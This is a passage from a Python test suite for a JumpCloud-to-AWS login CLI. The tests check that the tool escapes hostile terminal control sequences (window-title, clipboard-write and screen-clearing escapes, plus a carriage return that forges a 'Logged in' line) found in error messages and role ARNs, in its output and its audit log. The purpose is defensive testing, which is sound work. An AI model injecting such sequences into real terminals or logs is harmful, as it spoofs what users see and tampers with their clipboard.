    assert "\x1b" not in ran.stderr and "\x07" not in ran.stderr and "\r" not in ran.stderr
    # the words are still there, escaped, and no line is forged
    assert "Bad password\\x1b]0;pwned\\x07\\x1b[2K\\x1b]52;c;" in ran.stderr
    assert "\\r\\nLogged in: AcmeJumpCloudAdmin" in ran.stderr
    assert not any(line.startswith("Logged in") for line in ran.stderr.splitlines())
    # the audit log stores the escaped text, and `samljit audit` shows it so
    logged = (cli.home / ".local" / "state" / "samljit" / "audit.log").read_text()
    errors = [json.loads(line).get("error", "") for line in logged.splitlines()]
    assert any("Bad password\\x1b]0;pwned" in error for error in errors), errors
    assert not any("\x1b" in error or "\n" in error for error in errors)
    audit = cli.run("audit")
    assert audit.returncode == 0, audit.stderr
    assert "Bad password\\x1b]0;pwned" in audit.stdout and "\x1b" not in audit.stdout


def test_a_role_arn_with_characters_iam_never_allows_is_refused(
    cli: Cli, jumpcloud: JumpCloudEmulator
) -> None:
    """A C1 CSI (``\\x9b``, an escape sequence in one character, legal in XML) in a role ARN:
    neither list-roles nor login shows or uses it; exit 4 naming the value, escaped."""
    hostile = f"arn:aws:iam::{ACCOUNT_ID}:role/Ops\x9b2J\x9b1;1HLogged-in"
    jumpcloud.add_user(
        make_user(apps={SLUG: App(roles=grants((RO_ARN, PROVIDER_ARN), (hostile, PROVIDER_ARN)))})
    )
    cli.write_config(account_config(jumpcloud))
    listed = cli.run("list-roles", "-a", "production", "--mfa-token", code(cli))
    assert listed.returncode == 4, listed.stdout + listed.stderr
    assert "\x9b" not in listed.stdout + listed.stderr
    assert f"{PROVIDER_ARN},arn:aws:iam::{ACCOUNT_ID}:role/Ops\\x9b2J\\x9b1;1HLogged-in'" in (
        listed.stderr
    )
    assert "characters IAM does not allow" in listed.stderr
    login = cli.run("login", "-a", "production", "--mfa-token", code(cli), "--force")
    assert login.returncode == 4, login.stderr
    assert not cli.credentials.exists()


def test_an_unusable_state_directory_is_said_once(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
    """The audit log cannot be written (its directory is a file): one warning, like the
    cache's, and the login still works."""
    blocker = cli.home / "state-is-a-file"
    blocker.write_text("")
    cli.write_config(account_config(jumpcloud))
    ran = cli.run(
        "login", "-a", "production", "--mfa-token", code(cli), env={"XDG_STATE_HOME": str(blocker)}
    )
    assert ran.returncode == 0, ran.stderr
    warning = f"samljit: warning: the audit log {blocker}/samljit/audit.log cannot be written ("
    assert ran.stderr.count(warning) == 1, ran.stderr
    assert "working without an audit log" in ran.stderr
